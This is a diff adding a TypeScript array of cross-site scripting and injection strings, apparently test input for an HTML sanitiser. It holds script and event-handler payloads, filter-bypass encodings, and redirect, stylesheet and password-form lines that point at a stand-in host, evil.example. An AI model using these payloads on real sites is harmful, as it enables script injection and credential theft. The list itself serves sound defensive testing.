@@ -1,0 +1,15 @@
+/** Known ways to bring a script, a handler, a style or somebody else's page into a text. */
+export const hostileTexts: readonly string[] = [
+  '<script>alert(1)</script>', '<ScRiPt src=//evil.example></sCrIpT>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '</script><script>alert(1)',
+  '<img src=x onerror=alert(1)>', '<img/src="x"/onerror=alert(1)>', '<img src=x onerror\n=alert(1)>', '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
+  '"><svg/onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<math><mtext></p><img src=x onerror=alert(1)></mtext></math>', '<math><a xlink:href=javascript:alert(1)>x', '<body onload=alert(1)>', '<details open ontoggle=alert(1)>',
+  '<iframe src=javascript:alert(1)>', '<iframe srcdoc="<script>alert(1)</script>">', '<object data=javascript:alert(1)>', '<embed src=javascript:alert(1)>', '<applet code=x>', '<frameset onload=alert(1)>',
+  '<a href="javascript:alert(1)">x</a>', '<a href="java\tscript:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>', '<a href="JaVaScRiPt:alert(1)">x</a>', '<a href=" javascript:alert(1)">x</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', '<a href="vbscript:msgbox(1)">x</a>', '<a href="//evil.example">x</a>', '<a href="/" onclick="alert(1)">x</a>', '<a href="/"onmouseover=alert(1)>x</a>',
+  'javascript:alert(1)', 'JAVASCRIPT:alert`1`', 'java\u0000script:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:x', '//evil.example', '/\\evil.example', 'https://a@evil.example', '/"onmouseover="alert(1)', "/'onmouseover='alert(1)", 'https://a.cn/"><script>alert(1)</script>', '/x" onerror="alert(1)',
+  '<style>@import "//evil.example";</style>', '<p style="background:url(javascript:alert(1))">x</p>', '<div style="position:fixed;inset:0">x</div>', '<link rel=stylesheet href=//evil.example>', '<style><img src="</style><img src=x onerror=alert(1)>">', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<form action=//evil.example><input type=password><button>登录</button></form>', '<button formaction=javascript:alert(1)>x</button>', '<input autofocus onfocus=alert(1)>', '<video><source onerror=alert(1)>', '<audio src=x onerror=alert(1)>', '<meta http-equiv=refresh content="0;url=//evil.example">', '<base href=//evil.example>',
+  '<template><script>alert(1)</script></template>', '<!--<img src="--><img src=x onerror=alert(1)>-->', '<![CDATA[<script>alert(1)</script>]]>', '<?xml version="1.0"?><x/>', '<x onclick=alert(1)>x', '<p/onclick=alert(1)>x</p>', '<table background="javascript:alert(1)">', '<marquee onstart=alert(1)>', '<select onchange=alert(1)>', '<textarea autofocus onfocus=alert(1)>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '&amp;lt;img src=x onerror=alert(1)&amp;gt;', '\u003cscript\u003ealert(1)', '<\u0000script>alert(1)', '＜script＞alert(1)＜/script＞', '<p>a</p', '<p', '<', '"', "'", '${alert(1)}', '{{constructor.constructor("alert(1)")()}}', '__proto__',
+] // prettier-ignore
